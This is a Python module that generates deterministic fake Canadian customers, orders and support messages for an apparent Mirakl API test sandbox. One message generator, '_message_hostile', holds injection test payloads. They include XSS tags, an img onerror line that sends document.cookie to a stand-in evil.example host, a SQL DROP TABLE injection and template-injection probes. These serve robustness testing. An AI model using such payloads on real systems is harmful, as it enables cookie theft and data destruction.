"""Deterministic fake customers, orders and customer messages for the Mirakl sandbox.

Everything is drawn from one ``random.Random(seed)``, so the same seed and the same sequence of
calls give the same data (tests and demos are reproducible). Order contents only: the Mirakl
service wraps them into OpenAPI-shaped orders with ids, dates and states.
"""

from __future__ import annotations

import random
import string
from dataclasses import dataclass
from typing import Any

from sandbox.catalog import PRODUCTS

FIRST_NAMES = [
    "Olivia", "Liam", "Emma", "Noah", "Charlotte", "William", "Amelia", "Benjamin", "Chloé", "Félix",
    "Léa", "Gabriel", "Zoé", "Mathis", "Priya", "Arjun", "Mei", "Wei", "Fatima", "Omar", "Siobhan",
    "Connor", "Aiyana", "Takoda", "Sofia", "Mateo", "Nguyen", "Hana", "Jean-François", "Marie-Ève",
]
LAST_NAMES = [
    "Smith", "Tremblay", "Brown", "Roy", "Wilson", "Gagnon", "MacDonald", "Côté", "Campbell", "Bouchard",
    "Singh", "Patel", "Chen", "Wong", "Li", "Nguyen", "Ahmed", "Haddad", "O'Brien", "Fraser", "Lévesque",
    "Morin", "Thompson", "Martin", "Lee", "Bélanger", "Young", "Whitehorse", "Cardinal", "Da Silva",
]
STREET_NAMES = [
    "Main St", "King St W", "Queen St E", "Yonge St", "Rue Sainte-Catherine", "Boulevard René-Lévesque",
    "Portage Ave", "Jasper Ave", "Robson St", "Granville St", "Barrington St", "Water St", "Bank St",
    "Rideau St", "Dundas St", "Bloor St W", "Rue Saint-Jean", "Avenue du Parc", "17 Ave SW", "Albert St",
    "Spring Garden Rd", "Wellington St", "Elm Dr", "Maple Cres", "Birch Rd", "Lakeshore Blvd W",
]

# Province code -> (first letters of its postal codes, cities). Postal codes: the forward sortation
# area's first letter is fixed by province; D, F, I, O, Q, U are never used, W and Z never first.
PROVINCES: dict[str, tuple[str, list[str]]] = {
    "ON": ("KLMNP", ["Toronto", "Ottawa", "Mississauga", "Hamilton", "London", "Kingston", "Sudbury"]),
    "QC": ("GHJ", ["Montréal", "Québec", "Laval", "Gatineau", "Sherbrooke", "Trois-Rivières"]),
    "BC": ("V", ["Vancouver", "Victoria", "Surrey", "Burnaby", "Kelowna", "Prince George"]),
    "AB": ("T", ["Calgary", "Edmonton", "Red Deer", "Lethbridge"]),
    "MB": ("R", ["Winnipeg", "Brandon"]),
    "SK": ("S", ["Saskatoon", "Regina"]),
    "NS": ("B", ["Halifax", "Sydney", "Truro"]),
    "NB": ("E", ["Moncton", "Fredericton", "Saint John"]),
    "NL": ("A", ["St. John's", "Corner Brook"]),
    "PE": ("C", ["Charlottetown", "Summerside"]),
    "NT": ("X", ["Yellowknife"]),
    "NU": ("X", ["Iqaluit"]),
    "YT": ("Y", ["Whitehorse"]),
}
# Rough population weights so most orders go where most customers are.
_PROVINCE_WEIGHTS = {"ON": 38, "QC": 22, "BC": 14, "AB": 12, "MB": 4, "SK": 3, "NS": 3, "NB": 2,
                     "NL": 1, "PE": 0.5, "NT": 0.2, "NU": 0.1, "YT": 0.2}
_POSTAL_LETTERS = "ABCEGHJKLMNPRSTVWXYZ"  # letters valid in positions 3 and 5
_POSTAL_FIRST = set("ABCEGHJKLMNPRSTVXY")
_AREA_CODES = {"ON": "416", "QC": "514", "BC": "604", "AB": "403", "MB": "204", "SK": "306", "NS": "902",
               "NB": "506", "NL": "709", "PE": "902", "NT": "867", "NU": "867", "YT": "867"}

MESSAGE_KINDS = ("delivery", "return", "hostile", "html", "long", "non_latin", "damaged", "cancel")


def is_valid_postal_code(code: str) -> bool:
    """Canadian postal code format ``A1A 1A1`` with the letters Canada Post actually uses."""
    if len(code) != 7 or code[3] != " ":
        return False
    letters, digits = code[0] + code[2] + code[5], code[1] + code[4] + code[6]
    return (
        code[0] in _POSTAL_FIRST
        and all(ch in _POSTAL_LETTERS for ch in letters)
        and digits.isdigit()
    )


@dataclass
class GeneratedLine:
    sku: str
    quantity: int


@dataclass
class GeneratedOrder:
    customer: dict[str, Any]  # customer_id, firstname, lastname, locale
    address: dict[str, Any]  # a Mirakl shipping_address object
    lines: list[GeneratedLine]
    shipping_type_code: str
    shipping_type_label: str


@dataclass
class GeneratedMessage:
    kind: str
    subject: str
    body: str


class Generator:
    """Seeded source of customers, orders and messages."""

    def __init__(self, seed: int = 1) -> None:
        self.seed = seed
        self.random = random.Random(seed)

    # -- state (so a restarted sandbox continues the same sequence) ---------------------------

    def getstate(self) -> Any:
        version, internal, gauss = self.random.getstate()
        return [version, list(internal), gauss]

    def setstate(self, state: Any) -> None:
        version, internal, gauss = state
        self.random.setstate((version, tuple(internal), gauss))

    # -- customers -----------------------------------------------------------------------------

    def postal_code(self, province: str) -> str:
        r = self.random
        first = r.choice(PROVINCES[province][0])
        return (
            f"{first}{r.randint(0, 9)}{r.choice(_POSTAL_LETTERS)} "
            f"{r.randint(0, 9)}{r.choice(_POSTAL_LETTERS)}{r.randint(0, 9)}"
        )

    def customer(self) -> tuple[dict[str, Any], dict[str, Any]]:
        r = self.random
        province = r.choices(list(_PROVINCE_WEIGHTS), weights=list(_PROVINCE_WEIGHTS.values()))[0]
        city = r.choice(PROVINCES[province][1])
        firstname, lastname = r.choice(FIRST_NAMES), r.choice(LAST_NAMES)
        locale = "fr_CA" if province == "QC" and r.random() < 0.8 else "en_CA"
        customer = {
            "customer_id": "".join(r.choices(string.digits, k=9)),
            "firstname": firstname,
            "lastname": lastname,
            "locale": locale,
        }
        address = {
            "firstname": firstname,
            "lastname": lastname,
            "company": r.choice([None, None, None, None, "Northern Widgets Inc.", "Maple Leaf Dental"]),
            "street_1": f"{r.randint(1, 9999)} {r.choice(STREET_NAMES)}",
            "street_2": r.choice([None, None, None, f"Apt {r.randint(1, 2500)}", f"Unit {r.randint(1, 40)}"]),
            "city": city,
            "state": province,
            "zip_code": self.postal_code(province),
            "country": "Canada",
            "country_iso_code": "CAN",
            "phone": f"{_AREA_CODES[province]}-555-{r.randint(0, 9999):04d}",
            "phone_secondary": None,
            "additional_info": r.choice([None, None, None, "Leave at side door", "Buzzer 1203"]),
        }
        return customer, address

    # -- orders --------------------------------------------------------------------------------

    def order(self) -> GeneratedOrder:
        r = self.random
        customer, address = self.customer()
        skus = r.sample([p["sku"] for p in PRODUCTS], k=r.choices([1, 2, 3, 4, 5], weights=[50, 25, 13, 8, 4])[0])
        lines = [GeneratedLine(sku, r.choices([1, 2, 3, 4, 5], weights=[70, 15, 8, 4, 3])[0]) for sku in skus]
        shipping = r.choices([("STANDARD", "Standard Shipping"), ("EXPRESS", "Express Shipping")],
                             weights=[85, 15])[0]
        return GeneratedOrder(customer, address, lines, *shipping)

    # -- messages ------------------------------------------------------------------------------

    def message(self, order_id: str, firstname: str, kind: str | None = None) -> GeneratedMessage:
        r = self.random
        kind = kind or r.choices(MESSAGE_KINDS, weights=[30, 20, 8, 8, 6, 10, 10, 8])[0]
        maker = getattr(self, f"_message_{kind}")
        subject, body = maker(order_id, firstname)
        return GeneratedMessage(kind, subject, body)

    def _message_delivery(self, order_id: str, firstname: str) -> tuple[str, str]:
        body = self.random.choice([
            f"Hi, when will order {order_id} ship? I need it before the weekend. Thanks, {firstname}",
            f"Hello, can you tell me the tracking number for my order {order_id}?",
            f"Bonjour, quand est-ce que ma commande {order_id} sera livrée? Merci, {firstname}",
            f"My order {order_id} says shipped but the tracking hasn't moved in 4 days. Where is it?",
            f"Can you deliver order {order_id} to my office instead? I am not home during the day.",
        ])
        return "Delivery question", body

    def _message_return(self, order_id: str, firstname: str) -> tuple[str, str]:
        body = self.random.choice([
            f"I'd like to return order {order_id}, it isn't what I expected. How do I get a label?",
            f"The item in {order_id} stopped working after two days. I want a refund please.",
            f"Bonjour, je souhaite retourner ma commande {order_id}. Comment faire? {firstname}",
        ])
        return "Return request", body

    def _message_damaged(self, order_id: str, firstname: str) -> tuple[str, str]:
        return "Damaged item", (
            f"Hello, the box for order {order_id} arrived crushed and the screen is cracked. "
            f"I attached no photo yet but can send one. What are my options? - {firstname}"
        )

    def _message_cancel(self, order_id: str, firstname: str) -> tuple[str, str]:
        return "Cancel order", f"Please cancel order {order_id}, I ordered the wrong model. Thank you."

    def _message_hostile(self, order_id: str, firstname: str) -> tuple[str, str]:
        body = self.random.choice([
            f"<script>alert('xss')</script>Where is my order {order_id}??",
            f'Order {order_id}: <img src=x onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">',
            f"'; DROP TABLE orders; -- my order {order_id} is late",
            f"{{{{7*7}}}} ${{7*7}} <%= 7*7 %> order {order_id} never arrived, worst seller ever!!!",
            f"<iframe src=\"javascript:alert(1)\"></iframe> Refund {order_id} NOW or I report you.",
        ])
        return "Complaint", body

    def _message_html(self, order_id: str, firstname: str) -> tuple[str, str]:
        return "Question about my order", (
            "<html><body><p>Hello,</p><p>About order <b>" + order_id + "</b>:</p>"
            "<ul><li>Is the charger included?</li><li>Does it come with a <i>French</i> manual?</li></ul>"
            "<p>Thanks,<br>" + firstname + "</p><a href=\"https://example.com\">my profile</a></body></html>"
        )

    def _message_long(self, order_id: str, firstname: str) -> tuple[str, str]:
        r = self.random
        sentences = [
            "I have been waiting for this package for a long time.",
            "The tracking page shows no update since it left the depot.",
            "My neighbour received hers in two days from another store.",
            "I called the carrier and they told me to contact the seller.",
            "Please check with your warehouse and let me know what happened.",
            "This was supposed to be a birthday gift and the party is on Saturday.",
        ]
        parts = [f"Hello, this is about order {order_id}."]
        while sum(len(p) + 1 for p in parts) < 10_500:
            parts.append(r.choice(sentences))
        parts.append(f"Regards, {firstname}")
        return "Very long complaint", " ".join(parts)

    def _message_non_latin(self, order_id: str, firstname: str) -> tuple[str, str]:
        body = self.random.choice([
            f"你好，我的订单 {order_id} 什么时候发货？谢谢！",
            f"مرحبا، متى سيتم شحن طلبي {order_id}؟ شكرا لكم",
            f"Hi 👋 my order {order_id} 📦 still hasn't arrived 😢🙏 can you check? 🇨🇦",
            f"Здравствуйте! Когда будет доставлен заказ {order_id}? Спасибо.",
            f"こんにちは。注文 {order_id} の配送状況を教えてください。",
        ])
        return "Question", body
